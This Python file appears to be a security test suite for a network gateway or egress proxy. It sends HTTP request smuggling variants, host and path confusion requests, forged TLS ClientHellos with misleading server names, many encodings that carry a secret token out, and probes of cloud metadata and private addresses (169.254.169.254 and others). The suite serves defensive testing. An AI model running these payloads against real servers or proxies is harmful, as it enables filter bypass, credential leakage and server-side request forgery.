# Attacks on the gate. What differs from run to run is named before: HOST (allowed below /v2), PLAIN (allowed as it is), OTHER (not
# allowed), HTTP, TLS and RAW (ports), at(name) (its address), trust() (a TLS context), TOKEN (what stands for the key) and VALUE.
# A function succeeds if the server was told what it must not be told, or if it returns True.
import base64, gzip, json, os, socket, ssl, struct, sys, time, urllib.parse

def talk(port, text, host=None, tls=False, patience=2.0):
    host = host or HOST
    with socket.create_connection((at(host), port), 5) as s:
        if tls:
            s = trust().wrap_socket(s, server_hostname=host)
        s.settimeout(patience)
        if isinstance(text, str):
            text = text.encode("latin-1")
        s.sendall(text)
        got = b""
        try:
            while part := s.recv(65536):
                got += part
        except (TimeoutError, ConnectionError, ssl.SSLError):
            pass
        return got

INNER = "GET /pwned HTTP/1.1\r\nHost: {}\r\n\r\n"

def smuggle(*lines, body=None, port=None):
    inner = INNER.format(HOST)
    body = inner if body is None else body
    text = "\r\n".join(["POST /v2/a HTTP/1.1", f"Host: {HOST}:{HTTP}", *lines, "", ""]) + body
    talk(HTTP, text)

# --- 63: one request that two servers read in two ways. The server goes by the length where there is one.
def length_beside_chunks():
    smuggle("Content-Length: 5", "Transfer-Encoding: chunked", body="0\r\n\r\n" + INNER.format(HOST))
def chunks_beside_length():
    smuggle("Transfer-Encoding: chunked", "Content-Length: 5", body="0\r\n\r\n" + INNER.format(HOST))
def two_lengths():
    smuggle("Content-Length: 0", f"Content-Length: {len(INNER.format(HOST))}")
def list_of_lengths():
    smuggle(f"Content-Length: 0, {len(INNER.format(HOST))}")
def signed_length():
    smuggle("Content-Length: +0")
def space_before_colon():
    smuggle("Content-Length : 0", f"Content-Length: {len(INNER.format(HOST))}")
def folded_length():
    smuggle("X: a", " b", "Content-Length: 0")
def obscure_coding():
    smuggle("Transfer-Encoding: xchunked", body="0\r\n\r\n" + INNER.format(HOST))
def coding_twice():
    smuggle("Transfer-Encoding: chunked, identity", body="0\r\n\r\n" + INNER.format(HOST))
def chunk_extension():
    # A reader that ends a chunk's line at a bare line feed sees another request.
    smuggle("Transfer-Encoding: chunked", body="0;x=\n\n" + INNER.format(HOST))
def bare_feeds():
    talk(HTTP, f"GET /v2/a HTTP/1.1\nHost: {HOST}:{HTTP}\nX: y\n\nGET /pwned HTTP/1.1\nHost: {HOST}\n\n")
def pipelined():
    talk(HTTP, f"GET /v2/a HTTP/1.1\r\nHost: {HOST}:{HTTP}\r\n\r\n" + INNER.format(HOST))
def expecting():
    smuggle("Expect: 100-continue", "Content-Length: 0")
def upgraded():
    lines = "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA=="
    talk(HTTP, f"GET /v2/a HTTP/1.1\r\nHost: {HOST}:{HTTP}\r\n{lines}\r\n\r\n" + INNER.format(HOST))
def upgraded_to_http2():
    lines = "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__"
    talk(HTTP, f"GET /v2/a HTTP/1.1\r\nHost: {HOST}:{HTTP}\r\n{lines}\r\n\r\n" + INNER.format(HOST))
def tunnelled():
    talk(HTTP, f"CONNECT {HOST}:{HTTP} HTTP/1.1\r\nHost: {HOST}:{HTTP}\r\n\r\n" + INNER.format(HOST))

# --- 59, 62: for whom a request is.
def other_host(): talk(HTTP, f"GET /v2/a HTTP/1.1\r\nHost: {OTHER}\r\n\r\n")
def two_hosts(): talk(HTTP, f"GET /v2/a HTTP/1.1\r\nHost: {HOST}:{HTTP}\r\nHost: {OTHER}\r\n\r\n")
def other_target(): talk(HTTP, f"GET http://{OTHER}/v2/a HTTP/1.1\r\nHost: {HOST}:{HTTP}\r\n\r\n")
def user_in_host(): talk(HTTP, f"GET http://{HOST}@{OTHER}/v2/a HTTP/1.1\r\nHost: {HOST}@{OTHER}\r\n\r\n")
def nul_in_host(): talk(HTTP, f"GET /v2/a HTTP/1.1\r\nHost: {OTHER}\0.{HOST}\r\n\r\n")
def fronted(): talk(TLS, f"GET /v2/a HTTP/1.1\r\nHost: {OTHER}\r\n\r\n", tls=True)
def path_up(): talk(HTTP, f"GET /v2/../pwned HTTP/1.1\r\nHost: {HOST}:{HTTP}\r\n\r\n")
def path_encoded(): talk(HTTP, f"GET /v2/%2e%2e/pwned HTTP/1.1\r\nHost: {HOST}:{HTTP}\r\n\r\n")
def path_slash_encoded(): talk(HTTP, f"GET /v2/..%2fpwned HTTP/1.1\r\nHost: {HOST}:{HTTP}\r\n\r\n")
def path_backslash(): talk(HTTP, f"GET /v2/..\\pwned HTTP/1.1\r\nHost: {HOST}:{HTTP}\r\n\r\n")
def path_parameter(): talk(HTTP, f"GET /v2/..;/pwned HTTP/1.1\r\nHost: {HOST}:{HTTP}\r\n\r\n")
def path_below_tls(): talk(TLS, f"GET /pwned HTTP/1.1\r\nHost: {HOST}:{TLS}\r\n\r\n", tls=True)

# --- 62: hellos. Whoever gets one to the server has got through.
def extension(kind, data): return struct.pack("!HH", kind, len(data)) + data
def server_name(*names):
    entries = b"".join(b"\0" + struct.pack("!H", len(name)) + name for name in (name.encode() for name in names))
    return extension(0, struct.pack("!H", len(entries)) + entries)
def hello(*extensions, version=0x0303, versions=(0x0304, 0x0303)):
    named = b"" if versions is None else extension(43, bytes([2 * len(versions)]) + b"".join(struct.pack("!H", v) for v in versions))
    every = b"".join(extensions) + named
    body = struct.pack("!H", version) + bytes(32) + b"\0" + struct.pack("!H", 4) + b"\x13\x01\xc0\x2f" + b"\1\0"
    body += struct.pack("!H", len(every)) + every
    return b"\1" + struct.pack("!I", len(body))[1:] + body
def records(message, size=16384):
    parts = [message[at : at + size] for at in range(0, len(message), size)]
    return b"".join(b"\x16\3\1" + struct.pack("!H", len(part)) + part for part in parts)
def greet(message, size=16384): talk(RAW, records(message, size), host=PLAIN, patience=1.0)
def no_server_name(): greet(hello())
def address_as_name(): greet(hello(server_name("127.0.0.1")))
def other_name(): greet(hello(server_name(OTHER)))
def other_name_in_small_records(): greet(hello(server_name(OTHER)), size=1)
def two_names(): greet(hello(server_name(PLAIN, OTHER)))
def name_twice(): greet(hello(server_name(PLAIN), server_name(OTHER)))
def name_with_nul(): greet(hello(server_name(PLAIN + "\0." + OTHER)))
def encrypted_hello(): greet(hello(server_name(PLAIN), extension(0xfe0d, b"\0" + b"\0\1\0\1" + b"\0" + struct.pack("!H", 32) + bytes(32) + struct.pack("!H", 16) + bytes(16))))
def old_version(): greet(hello(server_name(PLAIN), version=0x0302, versions=None))
def silence_then_hello():
    with socket.create_connection((at(PLAIN), RAW), 5) as s:
        time.sleep(6)
        s.sendall(records(hello(server_name(OTHER))))
        time.sleep(0.5)
def http_in_place_of_tls(): talk(RAW, f"GET / HTTP/1.1\r\nHost: {OTHER}\r\n\r\n", host=PLAIN, patience=1.0)

# --- 95, 98: the key where it must not be. TOKEN is all that a program has of it.
def send(target="/v2/leak", headers=(), body=b"", method="POST", port=None, host=None):
    head = "\r\n".join([f"{method} {target} HTTP/1.1", f"Host: {host or HOST}:{port or TLS}", *headers, f"Content-Length: {len(body)}", "Connection: close", "", ""])
    talk(port or TLS, head.encode("latin-1") + body, host=host, tls=(port or TLS) == TLS)
def in_path(): send(f"/v2/leak/{TOKEN}")
def in_query(): send(f"/v2/leak?x={TOKEN}")
def in_query_encoded(): send("/v2/leak?x=" + "".join(f"%{ord(c):02x}" for c in TOKEN))
def in_other_header(): send(headers=[f"X-Other: {TOKEN}"])
def in_header_name(): send(headers=[f"{TOKEN}: x"])
def in_cookie(): send(headers=[f"Cookie: a=b; key={TOKEN}"])
def in_two_headers(): send(headers=[f"X-A: {TOKEN[:20]}", f"X-B: {TOKEN[20:]}"])
def beside_own_authorization(): send(headers=["Authorization: Bearer own", f"Authorization: Bearer {TOKEN}"])
def named_by_connection(): send(headers=[f"Authorization: Bearer {TOKEN}", "Connection: authorization"])
def for_a_proxy(): send(headers=[f"Proxy-Authorization: Bearer {TOKEN}"])
def in_user_info(): send(headers=["Authorization: Basic " + base64.b64encode(f"{TOKEN}:x".encode()).decode()])
def in_body(): send(body=TOKEN.encode())
def in_body_of_other_case(): send(body=TOKEN.swapcase().encode())
def in_body_base64():
    for pad in ("", "a", "ab"): send(body=base64.b64encode((pad + TOKEN).encode()))
def in_body_hex(): send(body=TOKEN.encode().hex().encode())
def in_body_percent(): send(body="".join(f"%{ord(c):02X}" for c in TOKEN).encode())
def in_body_json_escapes(): send(body=('{"k":"' + "".join(f"\\u{ord(c):04x}" for c in TOKEN) + '"}').encode())
def in_body_utf16(): send(body=TOKEN.encode("utf-16"))
def in_multipart(): send(headers=["Content-Type: multipart/form-data; boundary=b"], body=f'--b\r\nContent-Disposition: form-data; name="k"\r\n\r\n{TOKEN}\r\n--b--\r\n'.encode())
def in_gzip(): send(headers=["Content-Encoding: gzip"], body=gzip.compress(TOKEN.encode()))
def chunked(chunks, trailer=""):
    head = f"POST /v2/leak HTTP/1.1\r\nHost: {HOST}:{TLS}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
    body = "".join(f"{len(chunk):x}\r\n{chunk}\r\n" for chunk in chunks)
    talk(TLS, head + body + f"0\r\n{trailer}\r\n", tls=True)
def in_chunks_of_one(): chunked(TOKEN)
def in_chunk_extension():
    talk(TLS, f"POST /v2/leak HTTP/1.1\r\nHost: {HOST}:{TLS}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n1;x={TOKEN}\r\na\r\n0\r\n\r\n", tls=True)
def in_trailer(): chunked(["a"], f"X-Trailer: {TOKEN}\r\n")
def without_tls(): send(headers=[f"Authorization: Bearer {TOKEN}"], port=HTTP)
def to_another_host():
    send(headers=[f"Authorization: Bearer {TOKEN}"], host=PLAIN)
def in_host(): talk(TLS, f"GET /v2/leak HTTP/1.1\r\nHost: {TOKEN}.{HOST}:{TLS}\r\n\r\n", tls=True)
def in_websocket_of_later(): websocket(f'{{"a":1}}', TOKEN)
def in_websocket_fragments(): websocket('{"a":1}', TOKEN[:9], TOKEN[9:])
def websocket(*texts):
    def frame(text, first, last):
        data = text.encode()
        return bytes([(0x80 if last else 0) | (1 if first else 0), 0x80 | len(data)]) + bytes(4) + data
    lines = f"Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA=="
    first, *rest = texts
    frames = frame(first, True, True) + b"".join(frame(text, n == 0, n == len(rest) - 1) for n, text in enumerate(rest))
    talk(TLS, f"GET /v2/a HTTP/1.1\r\nHost: {HOST}:{TLS}\r\n{lines}\r\n\r\n".encode() + frames, tls=True)

# --- 96: the key in what comes back.
def told(how, *headers):
    got = talk(TLS, "\r\n".join([f"GET /v2/echo/{how} HTTP/1.1", f"Host: {HOST}:{TLS}", f"Authorization: Bearer {TOKEN}", "Accept-Encoding: gzip", "Connection: close", *headers, "", ""]), tls=True)
    head, _, body = got.partition(b"\r\n\r\n")
    texts = [got, b"".join(body.split(b"\r\n")[1::2])]
    for text in list(texts) + [body]:
        for undo in (lambda t: gzip.decompress(t), lambda t: __import__("zlib").decompress(t), lambda t: bytes.fromhex(t.decode()),
                     lambda t: urllib.parse.unquote_to_bytes(t), lambda t: base64.b64decode(t[1:]), lambda t: json.dumps(json.loads(t), ensure_ascii=False).encode()):
            try: texts.append(undo(text))
            except Exception: pass
    return any(VALUE.encode() in text for text in texts)
def echo_plain(): return told("plain")
def echo_header(): return told("header")
def echo_location(): return told("location")
def echo_error(): return told("error")
def echo_chunks(): return told("chunks")
def echo_trailer(): return told("trailer")
def echo_gzip(): return told("gzip")
def echo_deflate(): return told("deflate")
def echo_transfer_gzip(): return told("transfer-gzip")
def echo_base64(): return told("base64")
def echo_hex(): return told("hex")
def echo_json(): return told("json")
def echo_percent(): return told("percent")
def echo_ranges():
    got = b""
    for first in range(4, 4 + len(VALUE), 5):
        answer = talk(TLS, f"GET /v2/echo/range HTTP/1.1\r\nHost: {HOST}:{TLS}\r\nAuthorization: Bearer {TOKEN}\r\nRange: bytes={first}-{first + 4}\r\nConnection: close\r\n\r\n", tls=True)
        got += answer.partition(b"\r\n\r\n")[2][:5]
    return VALUE.encode() in got

# --- 57, 58: addresses that are nobody's to reach. They answer where the attack is a real one.
def reach(address, port=80):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(3)
        s.connect((address, port))
        s.sendall(b"GET / HTTP/1.0\r\n\r\n")
        return s.recv(64).startswith(b"HTTP/1.0 200")
ADDRESSES = dict(metadata="169.254.169.254", metadata_ecs="169.254.170.2", metadata_azure="168.63.129.16", metadata_alibaba="100.100.100.200",
    metadata_ipv6="fd00:ec2::254", private_10="10.0.0.1", private_172="172.16.0.1", private_192="192.168.1.1", shared="100.64.0.1",
    mapped="::ffff:169.254.169.254", nat64="64:ff9b::a9fe:a9fe", link_local="169.254.1.1", benchmark="198.18.0.1", multicast_ish="240.0.0.1",
    unique_local="fc00::1", six_to_four="2002:a9fe:a9fe::1")

def main(name):
    try:
        success = reach(ADDRESSES[name]) if name in ADDRESSES else globals()[name]()
    except Exception as error:
        print("BLOCKED", type(error).__name__, str(error)[:80].replace("\n", " "))
        return
    print("SUCCEEDED" if success else "BLOCKED silently")
